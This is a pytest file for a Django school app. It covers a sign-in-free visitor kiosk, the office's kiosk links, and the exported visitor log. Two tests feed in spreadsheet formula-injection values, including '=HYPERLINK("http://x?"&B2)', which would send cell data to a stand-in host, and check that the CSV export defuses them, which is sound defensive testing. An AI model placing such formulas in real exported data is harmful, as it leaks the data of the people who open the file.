"""The visitor kiosk: no sign-in, reaches nothing else, stops when switched off; the office's
kiosk links and visitor log."""

import csv
import io
import re
import uuid

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from esafety.audit.models import AuditEvent
from policies.models import Acceptance, AcceptanceKind, Audience, KioskLink, Method, Visitor
from policies.services.kiosk import (
    kiosk_for_token,
    kiosk_link_create,
    kiosk_link_revoke,
    visitor_accept,
)


@pytest.fixture
def visitor_aup(publish):
    return publish(
        [Audience.VISITORS],
        title="Visitors' AUP",
        body="Do not photograph pupils. See [our site](https://example.org) or "
        '<a href="/s/">the app</a>.',
    )


@pytest.fixture
def kiosk(personas):
    link, token = kiosk_link_create(
        actor=personas.office, school=personas.school, label="Main reception"
    )
    return link, token


def kiosk_url(token: str) -> str:
    return reverse("policies:kiosk", args=[token])


def visit(client, token, **data):
    return client.post(
        kiosk_url(token),
        {
            "name": "Vera Visitor",
            "organisation": "County IT",
            "visiting": "Ola in the office",
            "agree": "on",
            "typed_name": "Vera Visitor",
            "submission": str(uuid.uuid4()),
            **data,
        },
        HTTP_USER_AGENT="Reception tablet",
        REMOTE_ADDR="198.51.100.4",
    )


ATTRIBUTE = re.compile(rb'\b(?:href|action|src|formaction)="([^"]*)"')


def addresses(response) -> set[str]:
    return {m.decode() for m in ATTRIBUTE.findall(response.content)}


def assert_reaches_nothing_else(response, token: str) -> None:
    """Every address on the page is the kiosk's own (or a place on the page itself, such as a
    field an error names), or a stylesheet or script."""
    own = {kiosk_url(token), reverse("policies:kiosk_thanks", args=[token]), ""}
    others = {a for a in addresses(response) if a not in own and not a.startswith("#")}
    assert all(a.startswith(settings.STATIC_URL) for a in others), others
    assert b"<nav" not in response.content


def assert_no_session_cookie(response) -> None:
    morsel = response.cookies.get(settings.SESSION_COOKIE_NAME)
    assert morsel is None or morsel.value == "", morsel


# The kiosk page.


def test_it_shows_the_school_name_and_the_visitor_aup_without_sign_in(personas, kiosk, visitor_aup):
    _link, token = kiosk
    r = Client().get(kiosk_url(token))
    assert r.status_code == 200
    assert b"Welcome to Oakfield Primary" in r.content
    assert b"Do not photograph pupils." in r.content
    for label in (b"Your name", b"Your organisation", b"Who you are visiting"):
        assert label in r.content
    assert_no_session_cookie(r)
    assert "no-store" in r["Cache-Control"]


def test_it_contains_no_link_to_any_other_page_not_even_the_aups_own(personas, kiosk, visitor_aup):
    _link, token = kiosk
    r = Client().get(kiosk_url(token))
    assert_reaches_nothing_else(r, token)
    assert b"example.org" not in r.content
    assert b"our site" in r.content  # the link's text stays
    assert b"Birchwood" not in r.content


def test_it_records_the_visitor_and_their_acceptance_then_thanks_them(personas, kiosk, visitor_aup):
    link, token = kiosk
    client = Client()
    r = visit(client, token)
    assert r.status_code == 302
    assert r["Location"] == reverse("policies:kiosk_thanks", args=[token])
    assert_no_session_cookie(r)
    visitor = Visitor.objects.get()
    assert (visitor.name, visitor.organisation, visitor.visiting, visitor.kiosk) == (
        "Vera Visitor",
        "County IT",
        "Ola in the office",
        link,
    )
    acceptance = Acceptance.objects.get()
    assert acceptance.kind == AcceptanceKind.VISITOR
    assert acceptance.method == Method.KIOSK
    assert acceptance.version == visitor_aup
    assert acceptance.visitor == visitor
    assert acceptance.typed_name == "Vera Visitor"
    assert acceptance.ip == "198.51.100.4"
    assert acceptance.user_agent == "Reception tablet"
    thanks = client.get(r["Location"])
    assert b"Thank you" in thanks.content
    assert b"Vera" not in thanks.content  # the next visitor sees nothing of this one
    assert_reaches_nothing_else(thanks, token)
    assert_no_session_cookie(thanks)
    fresh = client.get(kiosk_url(token))
    assert b"Vera" not in fresh.content
    assert b'autocomplete="off"' in fresh.content


def test_it_says_what_to_fix_and_records_nothing(personas, kiosk, visitor_aup):
    _link, token = kiosk
    r = visit(Client(), token, name=" ", visiting="", agree="", typed_name="")
    assert r.status_code == 200
    for message in (
        b"Type your name.",
        b"Say who you are visiting.",
        b"Tick the box to say you have read and accept it.",
        b"Type your name to sign the agreement.",
    ):
        assert message in r.content
    assert not Visitor.objects.exists()
    assert_reaches_nothing_else(r, token)


def test_it_asks_visitors_to_go_to_reception_when_there_is_no_visitor_aup(personas, kiosk):
    _link, token = kiosk
    client = Client()
    r = client.get(kiosk_url(token))
    assert b"There is no visitors' agreement to sign yet." in r.content
    assert b"<form" not in r.content
    visit(client, token)
    assert not Visitor.objects.exists()


@pytest.mark.parametrize("which", ["revoked", "unknown"])
def test_it_answers_a_bare_404_for_a_revoked_or_unknown_link(personas, kiosk, visitor_aup, which):
    link, token = kiosk
    if which == "revoked":
        kiosk_link_revoke(actor=personas.office, link=link)
    else:
        token = "x" + token
    client = Client()
    for response in (
        client.get(kiosk_url(token)),
        visit(client, token),
        client.get(reverse("policies:kiosk_thanks", args=[token])),
    ):
        assert response.status_code == 404
        assert b"Oakfield" not in response.content
        assert b"<form" not in response.content
        assert {a for a in addresses(response) if not a.startswith(settings.STATIC_URL)} == set()
    assert not Visitor.objects.exists()


def test_it_never_lets_the_kiosk_into_the_app(personas, kiosk, visitor_aup):
    _link, token = kiosk
    client = Client()
    visit(client, token)
    school = personas.school.code
    for url in (
        reverse("people:school_home", args=[school]),
        reverse("policies:visitor_log", args=[school]),
        reverse("policies:kiosk_links", args=[school]),
        reverse("policies:accept", args=[school]),
    ):
        r = client.get(url)
        assert r.status_code == 302
        assert r["Location"].startswith(reverse("account_login"))


def test_it_signs_out_whoever_was_signed_in_on_the_tablet(personas, client_for, kiosk, visitor_aup):
    _link, token = kiosk
    client = client_for(personas.office)  # the office opened the link while signed in
    home = reverse("people:school_home", args=[personas.school.code])
    assert client.get(home).status_code == 200
    r = client.get(kiosk_url(token))
    assert r.status_code == 200
    assert_no_session_cookie(r)  # the office's session cookie is deleted, no new one is set
    assert b"Ola Office" not in r.content
    assert_reaches_nothing_else(r, token)
    assert client.get(home)["Location"].startswith(reverse("account_login"))


# The office's side.


def links_url(personas) -> str:
    return reverse("policies:kiosk_links", args=[personas.school.code])


def test_it_shows_the_new_kiosk_address_once(personas, client_for, visitor_aup):
    client = client_for(personas.office)
    r = client.post(links_url(personas), {"label": "  Main   reception "})
    assert r.status_code == 200
    link = KioskLink.objects.get()
    assert link.label == "Main reception"
    url = r.context["url"]
    assert url.startswith(settings.SITE_URL + "/k/")
    assert url.encode() in r.content
    token = url.rsplit("/k/", 1)[1].strip("/")
    assert kiosk_for_token(token) == link
    listing = client.get(links_url(personas))
    assert b"Main reception" in listing.content
    assert token.encode() not in listing.content
    assert AuditEvent.objects.filter(action="kiosk.created").count() == 1


def test_it_says_what_to_fix_without_a_label(personas, client_for):
    r = client_for(personas.head).post(links_url(personas), {"label": ""})
    assert r.status_code == 200
    assert b"Say where the tablet is, for example Main reception." in r.content
    assert not KioskLink.objects.exists()


def test_it_switches_a_kiosk_link_off(personas, client_for, kiosk, visitor_aup):
    link, token = kiosk
    client = client_for(personas.office)
    r = client.post(
        reverse("policies:kiosk_revoke", args=[personas.school.code]), {"link": link.code}
    )
    assert r.status_code == 302
    link.refresh_from_db()
    assert link.revoked_at is not None and link.revoked_by == personas.office
    assert Client().get(kiosk_url(token)).status_code == 404
    assert b"Switched off" in client.get(links_url(personas)).content


def test_it_answers_404_for_another_schools_kiosk_link(personas, client_for, kiosk):
    theirs, _token = kiosk_link_create(
        actor=personas.other_dsl, school=personas.other_school, label="Their reception"
    )
    client = client_for(personas.office)
    url = reverse("policies:kiosk_revoke", args=[personas.school.code])
    assert client.post(url, {"link": theirs.code}).status_code == 404
    assert client.post(url, {"link": "nope"}).status_code == 404
    theirs.refresh_from_db()
    assert theirs.revoked_at is None
    assert b"Their reception" not in client.get(links_url(personas)).content


# The visitor log.


def log_url(personas) -> str:
    return reverse("policies:visitor_log", args=[personas.school.code])


def add_visitors(link, n: int, **kw) -> None:
    for i in range(n):
        visitor_accept(
            kiosk=link,
            name=kw.get("name", f"Visitor {i}"),
            organisation=kw.get("organisation", "Supply agency"),
            visiting=kw.get("visiting", "Year 5"),
            typed_name=kw.get("name", f"Visitor {i}"),
        )


def test_it_shows_the_office_the_visitor_log(personas, client_for, kiosk, visitor_aup):
    link, _token = kiosk
    add_visitors(link, 1, name="Vera Visitor", organisation="County IT")
    theirs, _token = kiosk_link_create(
        actor=personas.other_dsl, school=personas.other_school, label="Theirs"
    )
    # Their school has no visitors' AUP here: a bare visitor row is enough to be left out.
    Visitor.objects.create(
        school=personas.other_school, name="Walter Elsewhere", visiting="Head", kiosk=theirs
    )
    r = client_for(personas.office).get(log_url(personas))
    assert r.status_code == 200
    assert b"Vera Visitor" in r.content
    assert b"County IT" in r.content
    assert b"Visitors&#x27; AUP, version 1" in r.content
    assert r.context["page"].paginator.count == 1
    assert b"Walter Elsewhere" not in r.content


@pytest.mark.parametrize("size", [2, 60])
def test_it_reads_the_visitor_log_in_constant_queries(
    personas, client_for, kiosk, visitor_aup, size, django_assert_num_queries
):
    link, _token = kiosk
    add_visitors(link, size)
    client = client_for(personas.office)
    client.get(log_url(personas))
    # Session, user, memberships, the count, the page of visitors with their acceptances.
    with django_assert_num_queries(5):
        r = client.get(log_url(personas))
    assert len(r.context["page"].object_list) == min(size, 50)


def test_it_exports_the_visitor_log_as_csv_safe_for_spreadsheets(
    personas, client_for, kiosk, visitor_aup
):
    link, _token = kiosk
    add_visitors(link, 1, name="=HYPERLINK(evil)", organisation="+Acme", visiting="@Ola")
    add_visitors(link, 1, name="Vera Visitor", organisation="", visiting="Head")
    r = client_for(personas.head).get(
        reverse("policies:visitor_log_csv", args=[personas.school.code])
    )
    assert r.status_code == 200
    assert r["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in r["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode())))
    assert rows[0] == [
        "Arrived",
        "Name",
        "Organisation",
        "Visiting",
        "Agreement",
        "Version",
        "Signed as",
    ]
    by_name = {row[1]: row for row in rows[1:]}
    assert by_name["'=HYPERLINK(evil)"][2:4] == ["'+Acme", "'@Ola"]
    assert by_name["Vera Visitor"][2:6] == ["", "Head", "Visitors' AUP", "1"]
    assert len(rows) == 3


def test_it_keeps_a_formula_in_every_column_of_the_visitor_log_as_text(
    personas, client_for, kiosk, publish
):
    # The agreement's title and the name typed to sign are written by people too.
    publish([Audience.VISITORS], title='=HYPERLINK("http://x?"&B2)', number="@1")
    link, _token = kiosk
    add_visitors(link, 1, name="-2+3", organisation="+Acme", visiting="@Ola")
    r = client_for(personas.office).get(
        reverse("policies:visitor_log_csv", args=[personas.school.code])
    )
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode())))
    assert rows[1][1:] == [
        "'-2+3",
        "'+Acme",
        "'@Ola",
        '\'=HYPERLINK("http://x?"&B2)',
        "'@1",
        "'-2+3",
    ]


def test_it_audits_every_export_of_the_visitor_log(personas, client_for):
    from esafety.audit.models import AuditEvent

    r = client_for(personas.office).get(f"/s/{personas.school.code}/policies/visitors/csv/")
    b"".join(r.streaming_content)
    event = AuditEvent.objects.get(action="export.visitor_log")
    assert event.actor == personas.office and event.school == personas.school


def test_the_same_form_sent_twice_records_one_visitor(personas, kiosk, visitor_aup):
    _link, token = kiosk
    key = str(uuid.uuid4())
    assert visit(Client(), token, submission=key).status_code == 302
    assert visit(Client(), token, submission=key).status_code == 302  # a double tap, a resend
    assert Visitor.objects.count() == 1
    visit(Client(), token)  # the next visitor's fresh form
    assert Visitor.objects.count() == 2


def test_each_blank_kiosk_form_carries_a_fresh_key(personas, kiosk, visitor_aup):
    _link, token = kiosk
    keys = {
        re.search(rb'name="submission" value="([^"]+)"', Client().get(kiosk_url(token)).content)[1]
        for _ in range(2)
    }
    assert len(keys) == 2
